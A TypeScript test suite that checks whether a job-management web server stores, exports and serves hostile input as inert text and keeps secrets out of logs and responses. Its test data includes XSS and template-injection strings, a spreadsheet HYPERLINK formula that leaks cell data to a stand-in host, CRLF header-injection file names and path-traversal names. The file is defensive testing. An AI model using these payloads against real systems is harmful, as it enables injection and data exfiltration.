import pino from 'pino';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { addUser, type Console, openConsole, password, signedIn } from '../../../support/console.ts';
import { startServer } from '../../../support/startServer.ts';
import { jpegPhoto, pdfDocument } from '../../../files/judge/fixtures.ts';
import { entriesOf } from '../../jobs/readZip.ts';
import { rowsIn } from '../../../support/serverDatabase.ts';

const script = `"><script>alert(1)</script><img src=x onerror=alert(1)>`;
const formula = `=HYPERLINK("http://x.example?"&A1,"see")`;
const evil = [script, formula, `${'javascript'}:alert(1)//`, `{{7*7}}\${7*7}<%= 7 %>`, `＝1+1`, `\u200b=1+1`];

const lines: string[] = [];
const server = await startServer({}, pino({ level: 'trace' }, { write: (line: string) => void lines.push(line) }));
const admin = await signedIn(server, 'admin');
const reviewer = await signedIn(server, 'reviewer');
const client = await signedIn(server, 'office', { organization: server.own.id });

const bytes = { 'content-type': 'application/octet-stream' };
const attach = async (job: number, kind: string, name: string, body: Uint8Array, array?: string) => {
  const query = new URLSearchParams({ job: String(job), kind, name, ...(array === undefined ? {} : { array }) });
  return client.ask('POST', `/attachments?${query.toString()}`, { headers: bytes, body: body as BodyInit });
};
const page = async (one: Console, where: string) => {
  const response = await one.ask('GET', where);
  return { status: response.status, headers: response.headers, bytes: Buffer.from(await response.arrayBuffer()) };
};
/** What comes back can only be read, not run. */
const assertInert = (headers: Headers, mediaType: string): void => {
  expect(headers.get('content-type')).toBe(mediaType);
  expect(headers.get('x-content-type-options')).toBe('nosniff');
  expect(headers.get('content-security-policy')).toMatch(/^default-src 'none'/);
  expect(headers.getSetCookie()).toEqual([]);
};

describe.each(evil)('the text %j', (text) => {
  let job: number;
  beforeAll(async () => {
    const made = await server.submit({
      client_name: text,
      client_street_address: text,
      client_city: text,
      notes: text,
      utility_name: text,
      arrays: [{ name: text }],
    });
    job = made.id;
    await client.call('sendMessage', { id: job, text });
    await attach(job, 'attic', `${text}.jpg`, jpegPhoto(evil.indexOf(text) + 1), made.arrays![0]!.id);
    await server.upload(`/jobs/${job}/files`, [{ name: `${text}.pdf`, bytes: pdfDocument() }]);
    await reviewer.call('setAhj', { id: job, ahj: text });
    await reviewer.call('moveJob', { id: job, to: 'On Hold', reason: text });
    await reviewer.call('addNote', { id: job, text });
    await reviewer.call('keepLetterDraft', { id: job, entries: { [text]: text, building_code: text } });
  });

  it('comes back as it was, as JSON that no browser takes for a page', async () => {
    for (const one of [client, reviewer]) {
      const { ended, headers } = await one.hear('showJob', { id: job });
      assertInert(headers, 'application/json; charset=utf-8');
      const { value } = ended as Extract<typeof ended, { ok: true }>;
      expect(value.job).toMatchObject({ client_name: text, notes: text, ahj: text, arrays: [{ name: text }] });
      expect(value.messages.map(({ body }) => body)).toEqual([text, text]);
    }
    expect((await reviewer.call('showJob', { id: job })).notes).toMatchObject([{ text }]);
    const { ended } = await reviewer.hear('draftLetter', { id: job });
    expect(ended).toMatchObject({ ok: true, value: { entries: { [text]: text } } });
    const { rows } = await reviewer.call('listJobs', { client_name: text });
    expect(rows.map(({ id }) => id)).toContain(job);
  });

  it('in the board as CSV is nothing that a spreadsheet runs', async () => {
    const { headers, bytes: body } = await page(admin, '/jobs.csv');
    assertInert(headers, 'text/csv; charset=utf-8');
    const rows = parse(body, { bom: true, columns: true }) as unknown as Record<string, string>[];
    const row = rows.find(({ id }) => id === String(job))!;
    for (const name of ['client_name', 'street_address', 'city', 'utility', 'ahj']) {
      expect(row[name]!.replace(/^'/, '')).toBe(text);
      expect(row[name]).not.toMatch(/^[\s\p{C}]*[=+@＝-]/u);
    }
  });

  it('in a ZIP is a name in its own folder, and in JSON beside it the whole text', async () => {
    const { status, headers, bytes: body } = await page(client, `/jobs/${job}/zip`);
    expect(status).toBe(200);
    assertInert(headers, 'application/zip');
    const entries = entriesOf(body);
    for (const name of entries.keys()) {
      expect(name.startsWith(`job ${job}/`)).toBe(true);
      expect(name.split('/').length).toBeLessThanOrEqual(6);
      expect(name).not.toMatch(/[<>"|?*\\:\p{C}]|\/\.{1,2}(\/|$)|\/\//u);
    }
    expect(JSON.parse(entries.get(`job ${job}/job.json`)!.toString())).toMatchObject({ client_name: text });
  });

  it('as the name of a file is one header, and no other', async () => {
    const { uploads } = await client.call('showJob', { id: job });
    expect(uploads).toHaveLength(2);
    for (const { id, name, mediaType } of uploads) {
      const shown = await page(client, `/files/${id}`);
      assertInert(shown.headers, mediaType);
      const { headers } = await page(client, `/files/${id}?download=true`);
      assertInert(headers, 'application/octet-stream');
      const told = headers.get('content-disposition')!;
      expect(told).toMatch(/^attachment; filename="[^"\\]*"; filename\*=UTF-8''[\w.!#$&+^`|~%-]*$/);
      expect(decodeURIComponent(told.split("UTF-8''")[1]!)).toBe(name);
    }
  });

  it('as a name of an organization, or what an administrator does, is inert in the audit log', async () => {
    const { organization } = await admin.call('addOrganization', { name: `${text} & co`, city: text });
    expect(organization.name).toBe(`${text} & co`.trim());
    const { email } = await addUser(server, 'office', {
      email: `x${organization.id}@x.example`,
      organization: organization.id,
    });
    expect((await admin.call('listUsers', {})).find((one) => one.email === email)!.organization).toEqual(organization);
    const { headers, bytes: body } = await page(admin, '/audit.csv');
    assertInert(headers, 'text/csv; charset=utf-8');
    for (const record of parse(body, { bom: true }))
      for (const cell of record) expect(cell).not.toMatch(/^[\s\p{C}]*[=+@＝-]/u);
  });
});

describe('names of files', () => {
  it.each([
    ['a\r\nSet-Cookie: evil=1\r\n\r\n<script>.pdf'],
    ['a\nX-Evil: 1.pdf'],
    ['a"; filename="b.html"; x=".pdf'],
    ['a\u202efdp.exe\u2028.pdf'],
    ['a\0.html\0.pdf'],
    ['\u{1f4a5}'.repeat(300) + '.pdf'],
    ['..\\..\\..\\a.pdf'],
    ['/etc/cron.d/a.pdf'],
    ["a%0d%0aX-Evil: 1'*%.pdf"],
  ])('%j adds no header, leads nowhere, and can be downloaded', async (name) => {
    const { id } = await server.submit();
    expect((await attach(id, 'file', name, pdfDocument())).status).toBe(200);
    await server.upload(`/jobs/${id}/files`, [{ name, bytes: pdfDocument('api') }]);
    const { uploads } = await client.call('showJob', { id });
    for (const upload of uploads) {
      expect(upload.name).not.toMatch(/[/\\\0]/);
      const { status, headers } = await page(client, `/files/${upload.id}?download=true`);
      expect(status).toBe(200);
      expect(headers.get('x-evil')).toBeNull();
      assertInert(headers, 'application/octet-stream');
    }
    for (const entry of entriesOf((await page(client, `/jobs/${id}/zip`)).bytes).keys())
      expect(entry).toMatch(/^job \d+\/([\w.-]+\/)*[^/\\\p{C}]+$/u);
  });
});

describe('a laptop', () => {
  it('names itself and its errors as it likes: that is text', async () => {
    for (const [at, text] of evil.entries()) {
      const report = {
        name: text,
        waiting_jobs: 1,
        waiting_files: 0,
        waiting_bytes: 0,
        last_error: text,
        ...{ isStale: 'x', organization: 'x' },
      };
      const { status } = await server.post(`/devices/laptop-${at}`, report);
      expect(status).toBeLessThan(300);
      const { ended, headers } = await client.hear('listLaptops', {});
      assertInert(headers, 'application/json; charset=utf-8');
      const { value } = ended as Extract<typeof ended, { ok: true }>;
      expect(value.find(({ id }) => id === `laptop-${at}`)).toMatchObject({
        name: text,
        last_error: text,
        isStale: false,
        organization: { id: server.own.id },
      });
    }
  });
});

describe('a reference list', () => {
  it('is no formula as CSV, and reads back as it was', async () => {
    const file = 'name,abbreviation\n"\'=1+1",QQ\n@SUM(A1),ZZ\n';
    const send = async (body: Uint8Array) =>
      (
        await admin.ask('POST', '/reference/states?name=a.csv&keepOthers=true', {
          headers: bytes,
          body: body as BodyInit,
        })
      ).json() as Promise<{ value: { added: number; unchanged: number; updated: number; errors: object[] } }>;
    expect((await send(Buffer.from(file))).value).toMatchObject({ added: 2, errors: [] });
    const { bytes: csv, headers } = await page(reviewer, '/reference/states');
    assertInert(headers, 'text/csv; charset=utf-8');
    for (const record of parse(csv, { bom: true })) for (const cell of record) expect(cell).not.toMatch(/^\s*[=+@-]/);
    expect((await send(csv)).value).toMatchObject({ added: 0, updated: 0, errors: [] });
  });
});

describe('secrets', () => {
  it('are in no line of the log, no refusal, no list and no export', async () => {
    const typed = 'a password that is typed here';
    const guessed = 'a guess of somebody elses';
    const one = await signedIn(server, 'admin', { email: 'secretive@x.example' });
    const secrets = [...one.jar.values(), one.page.pageSecret!, one.page.linkKey!];
    const stranger = openConsole(server.url);
    const told: string[] = [];
    const hear = async (who: Console, name: Parameters<Console['hear']>[0], request: object, headers = {}) =>
      void told.push((await who.hear(name, request, headers)).text);
    const { apiKey } = await one.call('addOrganization', { name: 'Secretive' });
    await hear(stranger, 'signIn', { email: 'secretive@x.example', password: guessed });
    await hear(stranger, 'signIn', { email: guessed, password: guessed });
    await hear(stranger, 'signIn', { email: 'x', password: [guessed] });
    await hear(stranger, 'signIn', { email: 'x', password: guessed.repeat(100) });
    await hear(stranger, 'signIn', { email: 'x', password: guessed }, { origin: 'https://x.example' });
    await hear(stranger, 'signIn', { email: 'x', password: guessed }, { 'content-type': 'text/plain' });
    await hear(stranger, 'makeFirstAdministrator', { token: guessed, email: 'a@x.example', password: guessed });
    await hear(one, 'addUser', { email: 'new@x.example', role: 'reviewer', password: typed });
    await hear(one, 'addUser', { email: 'new@x.example', role: 'reviewer', password: typed });
    await hear(one, 'addUser', { email: typed, role: 'wrong', password: { typed } });
    const { id: victim } = await addUser(server, 'reviewer', { email: 'victim@x.example' });
    await hear(one, 'resetPassword', { id: victim, password: `${typed} 2`, more: typed });
    await hear(one, 'changePassword', { current: guessed, next: typed });
    await hear(one, 'changePassword', { current: password, next: 'short' });
    for (const name of [
      'listUsers',
      'listKeys',
      'listOrganizations',
      'listAudit',
      'readHealth',
      'readFirm',
      'readHere',
    ] as const)
      await hear(one, name, {});
    const raw = await one.ask('POST', '/calls/signIn', {
      headers: { 'content-type': 'application/json' },
      body: `{"password":"${guessed}`,
    });
    told.push(await raw.text());
    told.push((await page(one, '/audit.csv')).bytes.toString(), await (await fetch(server.url)).text());
    const [secret = ''] = secrets;
    told.push(await (await one.ask('GET', `/previews/${secret}x`, { headers: { cookie: `rafter=${secret}` } })).text());
    told.push(await (await one.ask('GET', `/jobs.csv?access=${one.page.linkKey}`)).text());
    const links = (await server.store.settings.get('link_secret')) as string;
    expect(links.length).toBeGreaterThan(30);
    const users = await rowsIn<{ hash: string }>(server.store, 'SELECT password_hash AS hash FROM "user"');
    const hashes = users.map(({ hash }) => hash);
    const here = [...told.map((text) => text.replaceAll(`${secret}x`, '')), ...lines];
    for (const word of [password, typed, guessed, apiKey, apiKey.slice(0, 20), links, '$argon2', ...hashes])
      expect(here.filter((text) => text.includes(word)).map((text) => text.slice(0, 300))).toEqual([]);
    for (const each of secrets) expect(here.filter((text) => text.includes(each))).toEqual([]);
    expect(here.filter((text) => /\bat .*\.[tj]s:\d+/.test(text)).map((text) => text.slice(0, 500))).toEqual([]);
  });

  it('a mistake of ours tells its name in the log, and not its insides or the path to it', async () => {
    for (const where of ['/files/%ff', '/jobs/%/zip', `/${'x'.repeat(20_000)}`]) {
      const { bytes: body } = await page(admin, where);
      expect(body.toString()).not.toMatch(/node_modules|electron\/|\/tmp\/|rafter-test-|at \w+ \(/);
    }
  });
});
